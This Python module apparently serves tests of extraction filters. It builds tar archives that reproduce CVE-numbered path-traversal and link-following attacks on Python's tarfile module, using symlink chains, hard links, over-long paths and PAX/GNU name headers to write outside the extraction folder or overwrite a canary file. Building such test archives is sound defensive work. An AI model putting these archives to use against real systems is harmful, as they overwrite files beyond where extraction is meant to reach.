"""The attacks on Python's tarfile that have CVE records, as archives: written anew, after what each record tells (P13)."""

from __future__ import annotations

import tarfile

from support.tars import END, archive, blocks, directory, hardlink, member, pax_header, raw_header, symlink

STEPS = "abcdefghijklmnop"  # as many links, and folders with names so long that the path itself is beyond PATH_MAX
LONG = "d" * 247


def attacks(outside: str) -> dict[str, bytes]:
    """Return archives that would reach the folder `outside` (as seen from the root, "../x") and the file CANARY in it."""
    name = f"{outside}/new"
    return {
        "cve_2007_4559": archive(member(name, content=b"x")),
        "cve_2025_4517 a path too long to be resolved": _too_long(outside),
        "cve_2025_4330 a hard link that becomes a link elsewhere": archive(
            directory("a"), symlink("a/s", outside), hardlink("s", "a/s"), member("s/new", content=b"x")
        ),
        "cve_2025_4138 a link through what comes later": archive(
            symlink("r", f"later/../{outside}"), directory("later"), member("r/new", content=b"x")
        ),
        "cve_2025_4138 links that are their own folder": archive(
            symlink("here", "."), symlink("up", "here/.."), member(f"up/{outside.removeprefix('../')}/new", content=b"x")
        ),
        "cve_2025_4138 a link read back": archive(
            symlink("there", f"{outside}/CANARY"), hardlink("copy", "there"), member("copy", content=b"overwritten")
        ),
        "cve_2024_12718 attributes of what a link leads to": archive(
            directory("a"),
            symlink("a/s", outside),
            hardlink("s", "a/s"),
            directory("s", mode=0o777, mtime=1),
            symlink("f", f"{outside}/CANARY"),
            hardlink("g", "f", mode=0o777, mtime=1),
        ),
        "cve_2026_82049 a hard link to a link to a link": archive(
            symlink("one", f"{outside}/CANARY"), symlink("two", "one"), hardlink("three", "two"), member("three", content=b"x")
        ),
        "cve_2026_4360 a hard link whose source is replaced": archive(
            member("src", mode=0o6777),
            hardlink("copy", "src"),
            symlink("src", f"{outside}/CANARY"),
            hardlink("again", "src"),
            member("again", content=b"x", mode=0o6777),
        ),
        "cve_2025_13462 an old archive's folder by a PAX name": (
            pax_header((b"path", f"{outside}/new/".encode())) + raw_header(b"safe", b"\0") + END
        ),
        "a name of GNU's long kind": archive(member(f"{outside}/{'n' * 200}", content=b"x"), format=tarfile.GNU_FORMAT),
        "a sparse file's own name": (
            pax_header((b"GNU.sparse.name", name.encode()), (b"GNU.sparse.size", b"1"), (b"GNU.sparse.map", b"0,1"))
            + raw_header(b"safe", size=b"00000000001\0")
            + blocks(b"x")
            + END
        ),
        "a link with a target of 6000 bytes": archive(symlink("a", "x/" * 3000), member("a/new", content=b"x")),
        "a folder that becomes a link while it is filled": archive(
            directory("a"),
            member("a/f"),
            symlink("a", outside),
            directory("a/b"),
            member("a/b/new", content=b"x"),
            member("a/CANARY", content=b"x"),
        ),
    }


def _too_long(outside: str) -> bytes:
    """Resolving it by name ends in ENAMETOOLONG, which the filters took for harmless; the kernel, link by link, has no trouble."""
    members, folder = [], ""
    for step in STEPS:
        members += [directory(f"{folder}{LONG}"), symlink(f"{folder}{step}", LONG)]
        folder += f"{LONG}/"
    way = "/".join(STEPS) + "/" + "l" * 254
    return archive(
        *members,
        symlink(way, "../" * len(STEPS)),
        symlink("escape", f"{way}/{outside}"),
        hardlink("flag", "escape/CANARY"),
        member("flag", content=b"overwritten"),
        member("escape/new", content=b"x"),
    )
